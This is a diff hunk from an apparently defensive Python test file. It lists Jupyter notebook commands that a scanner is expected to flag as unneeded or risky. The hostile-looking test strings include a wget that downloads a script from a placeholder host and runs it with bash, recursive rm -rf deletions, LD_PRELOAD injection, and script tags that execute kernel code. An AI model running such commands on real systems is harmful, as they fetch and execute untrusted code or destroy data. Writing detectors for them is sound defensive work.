@@ -131,7 +131,7 @@ def test_commands_that_no_experiment_needs_are_found(source: str, severity: str)
         "%%bash\nrm -rf /dev/shm/run ./etc /home/somebody/project/build /content/lib && rm /etc/hosts.bak",
         "%env LD_PRELOAD=libtcmalloc_minimal.so.4\n%env LD_PRELOAD=\n!LD_PRELOAD=/usr/lib/libjemalloc.so ls",
         "%env CUDA_VISIBLE_DEVICES=0\n%alias l ls -la\nname = 'x'\n!echo {name} $name {other}",
-        "!wget -q https://example.invalid/x.sh -O x.sh && bash x.sh\n!curl -O http://127.0.0.1:9/d.csv; cat d",
+        "!wget -q https://example.invalid/x.sh -O x.sh && bash x.sh\n!curl -O http://127.0.0.1:9/d; cat d",
         "%%html\n<b>x</b>\n<script>kernel.execute('1')</script>",
         "%%writefile notes/authorized.py\nx = 1",
         "!pip install git+https://example.invalid/x.git http",
